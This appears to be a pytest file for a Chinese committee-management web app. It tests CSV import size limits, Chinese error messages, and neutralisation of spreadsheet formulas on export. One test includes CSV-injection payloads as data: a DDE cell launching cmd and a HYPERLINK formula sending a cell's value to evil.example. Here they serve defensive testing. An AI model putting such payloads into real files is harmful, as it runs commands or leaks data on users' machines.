"""One size rule for both CSV imports (review finding #8: the plan import had none), their messages in the
reader's language (finding #15), and formulas that stay harmless through import and export (finding #2)."""

from __future__ import annotations

import csv
import html
import io

import pytest
from sqlalchemy import func, select

from consult.csv_files import MAX_IMPORT_BYTES, MAX_IMPORT_ROWS, CsvError, read_table, read_upload
from consult.extensions import db
from consult.members.models import Member
from consult.plans.models import PlanItem
from tests import factories

YEAR = 2030
PLAN_HEADER = "议题,协商形式,机构,承办,月份\n"
MEMBER_HEADER = "姓名,界别,所属机构,职务,是否常委,手机,电子邮箱,委员编号,工作单位及职务\n"
COLUMNS = {"name": ("姓名",), "note": ("备注",)}


def test_read_table_stops_past_the_row_limit():
    rows = "".join(f"委员{n},x\n" for n in range(MAX_IMPORT_ROWS))
    assert len(read_table("姓名,备注\n" + rows, COLUMNS, {"name"})) == MAX_IMPORT_ROWS
    with pytest.raises(CsvError, match=f"more than {MAX_IMPORT_ROWS} rows"):
        read_table("姓名,备注\n" + rows + "one too many,x\n", COLUMNS, {"name"})
    with pytest.raises(CsvError, match="more than 2 rows"):
        read_table("姓名\na\nb\nc\n", COLUMNS, {"name"}, max_rows=2)
    # Blank lines are not rows (the review's header with a million empty lines).
    assert read_table("姓名,备注\n" + "\n" * 100_000 + ",\n" * 1000, COLUMNS, {"name"}) == []


def test_read_upload_refuses_a_file_over_the_size_limit():
    assert read_upload(io.BytesIO("姓名\n张三\n".encode())) == "姓名\n张三\n"
    with pytest.raises(CsvError, match="larger than 2 MB"):
        read_upload(io.BytesIO(b"a" * (MAX_IMPORT_BYTES + 1)))


@pytest.mark.parametrize(
    ("cell", "value"),
    [("\t=1+1", "=1+1"), (" \t=1+1 ", "=1+1"), ("\t+SUM(1)", "+SUM(1)"), ("\t张三\t", "张三"),
     ("'\t=1+1", "\t=1+1"), ("'=1+1", "=1+1"), ("'张", "'张")],
)
def test_a_tab_or_apostrophe_before_a_formula_marked_text(cell, value):
    """Excel's ways of keeping a cell from calculating; the text is what was meant, and the export marks it again."""
    text = "姓名,备注\n张三,\"" + cell + "\"\n"
    assert read_table(text, COLUMNS, {"name"})[0][1]["note"] == value


@pytest.fixture
def world(app, auth):
    factories.committee(term=8)
    factories.organ("standing_committee", name="常务委员会")
    factories.organ("special_committee", name="提案委员会", slug="proposals")
    factories.sector("科技界")
    db.session.commit()
    auth.login()


def _post_file(client, path: str, data: bytes):
    """Post `data` as the form's file. The multipart body is made here, in memory: the test client would write a
    body past 500 KB to a temporary file it never closes."""
    boundary = "consult-test-boundary"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"file.csv\"\r\n"
            f"Content-Type: text/csv\r\n\r\n").encode() + data + f"\r\n--{boundary}--\r\n".encode()
    return client.post(path, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def _plan_rows(count: int) -> bytes:
    return (PLAN_HEADER + "".join(f"关于第{n}项工作的专题协商,专题协商,常务委员会,提案委员会,6\n"
                                  for n in range(count))).encode("utf-8")


def _items() -> int:
    return db.session.scalar(select(func.count()).select_from(PlanItem))


def test_plan_import_refuses_more_rows_than_the_rule_in_chinese(client, world):
    """The review's 10,000-row plan (imported in 21 s and a 13 MB page before): refused at the preview."""
    response = _post_file(client, f"/plans/{YEAR}/import", _plan_rows(10_000))
    assert response.status_code == 422
    assert f"文件超过{MAX_IMPORT_ROWS}行。" in response.get_data(as_text=True)
    assert _items() == 0
    assert _post_file(client, f"/plans/{YEAR}/import", _plan_rows(MAX_IMPORT_ROWS)).status_code == 200


def test_plan_import_refuses_a_file_over_the_size_rule(client, world):
    """The review's 50,000-row (2.3 MB) and 6 MB plan files: refused before they are read."""
    for data in (_plan_rows(50_000), PLAN_HEADER.encode() + b"x" * (6 * 2**20)):
        assert len(data) > MAX_IMPORT_BYTES
        response = _post_file(client, f"/plans/{YEAR}/import", data)
        assert response.status_code == 422
        assert "文件大于2 MB。" in response.get_data(as_text=True)
    assert _items() == 0


def test_plan_import_of_a_large_file_within_the_rule_is_confirmed(client, world):
    """A file of nearly 1 MB goes through the preview and the confirmation, whose form carries the text back."""
    rows, words = 1000, "城市书房建设和全民阅读推广" * 20
    line = "关于第{}项" + words + "工作的专题协商,专题协商,常务委员会,提案委员会,6\n"
    text = PLAN_HEADER + "".join(line.format(n) for n in range(rows))
    assert 500_000 < len(text.encode()) <= MAX_IMPORT_BYTES
    assert _post_file(client, f"/plans/{YEAR}/import", text.encode()).status_code == 200
    response = client.post(f"/plans/{YEAR}/import/confirm", data={"text": text})
    assert response.status_code == 302, response.status_code
    assert _items() == rows


def test_plan_import_confirm_refuses_text_over_the_rule(client, world):
    big = "x" * (2 * MAX_IMPORT_BYTES + 1)
    response = client.post(f"/plans/{YEAR}/import/confirm", data={"text": big})
    assert response.status_code == 302 and _items() == 0
    assert "导入表单已过期" in client.get(response.headers["Location"]).get_data(as_text=True)


def test_member_import_uses_the_same_rule(client, world):
    rows = "".join(f"委员{n},科技界,,,否,,,,\n" for n in range(MAX_IMPORT_ROWS + 1))
    response = _post_file(client, "/members/import", (MEMBER_HEADER + rows).encode())
    assert response.status_code == 400
    assert f"文件超过{MAX_IMPORT_ROWS}行。" in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(Member)) == 0
    # Both upload forms state the rule.
    for path in ("/members/import", f"/plans/{YEAR}/import"):
        assert "文件不超过 2 MB，最多 3,000 行" in client.get(path).get_data(as_text=True), path


def test_header_without_rows_is_said_in_chinese(client, world):
    """Finding #15: a header and a million empty lines; the message was English in the Chinese interface."""
    response = _post_file(client, f"/plans/{YEAR}/import", (PLAN_HEADER + "\n" * 1_000_000).encode())
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "文件只有表头，没有数据行。" in page and "header but no rows" not in page


def test_a_request_over_the_limit_gets_the_sites_413_page_in_chinese(app, client, world):
    """Finding #15: the 413 page was Werkzeug's bare "Request Entity Too Large"."""
    app.config.update(CONSULT_MAX_UPLOAD_MB=1, MAX_CONTENT_LENGTH=2 * 2**20)
    response = _post_file(client, f"/plans/{YEAR}/import", b"x" * (3 * 2**20))
    assert response.status_code == 413
    page = response.get_data(as_text=True)
    assert "site-header" in page and 'lang="zh-CN"' in page
    assert "Request Entity Too Large" not in page and "1 MB" in page and "未作保存" in page
    assert _items() == 0


def _export(client) -> list[list[str]]:
    body = client.get("/members/export.csv").get_data(as_text=True)
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))


def test_the_reviews_formula_rows_go_out_harmless(client, world):
    """Finding #2: the review's file imported, then exported: no cell starts as a formula (the tab before =1+1
    only marked the cell as text; the export marks it with an apostrophe)."""
    rows = (
        "\"=cmd|' /C calc'!A0\",科技界,,,否,=1+1,,F001,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\n"
        "+SUM(1+1)cmd,科技界,,,否,+8613800000000,,F002,@SUM(1)\n"
        "-2+3,科技界,,,否,-1,,F003,=1+1\n"
        "张三,科技界,,,否,,,F004,\"\t=1+1\"\n"
    )
    preview = _post_file(client, "/members/import", (MEMBER_HEADER + rows).encode())
    assert preview.status_code == 200, preview.get_data(as_text=True)
    text = preview.get_data(as_text=True).split('name="text" type="hidden" value="', 1)[1].split('"', 1)[0]
    assert client.post("/members/import/confirm", data={"text": html.unescape(text)}).status_code == 302
    assert db.session.scalars(select(Member.affiliation).where(Member.member_number == "F004")).one() == "=1+1"
    exported = _export(client)
    cells = [cell for row in exported[1:] for cell in row]
    assert len(exported) == 5
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], exported
    zhang = next(row for row in exported if row[0] == "张三")
    assert zhang[-1] == "'=1+1"
    # Imported again, the exported file gives the same values back (the apostrophes are the export's own).
    body = client.get("/members/export.csv").get_data()
    again = client.post("/members/import", data={"file": (io.BytesIO(body), "members.csv")},
                        content_type="multipart/form-data")
    assert again.status_code == 200
    text = again.get_data(as_text=True).split('name="text" type="hidden" value="', 1)[1].split('"', 1)[0]
    assert client.post("/members/import/confirm", data={"text": html.unescape(text)}).status_code == 302
    db.session.expire_all()
    kept = dict(db.session.execute(select(Member.member_number, Member.affiliation)).all())
    assert kept["F004"] == "=1+1" and kept["F003"] == "=1+1" and kept["F002"] == "@SUM(1)"
    assert db.session.scalars(select(Member.name).where(Member.member_number == "F001")).one() == "=cmd|' /C calc'!A0"


def test_a_plan_items_tab_before_a_formula_never_comes_back_as_a_formula(client, world):
    """Finding #2's tab case: a cell written "\t=1+1" was imported as =1+1 and exported as =1+1, a live formula;
    it is still read as the text =1+1, and the export now says so with an apostrophe."""
    text = PLAN_HEADER.strip() + ",备注\n关于城市书房建设的专题协商,专题协商,常务委员会,提案委员会,6,\"\t=1+1\"\n"
    assert _post_file(client, f"/plans/{YEAR}/import", text.encode()).status_code == 200
    assert client.post(f"/plans/{YEAR}/import/confirm", data={"text": text}).status_code == 302
    assert db.session.scalars(select(PlanItem.notes)).one() == "=1+1"
    exported = list(csv.reader(io.StringIO(client.get(f"/plans/{YEAR}.csv").get_data(as_text=True).lstrip("\ufeff"))))
    notes = exported[0].index("备注")
    assert exported[1][notes] == "'=1+1"
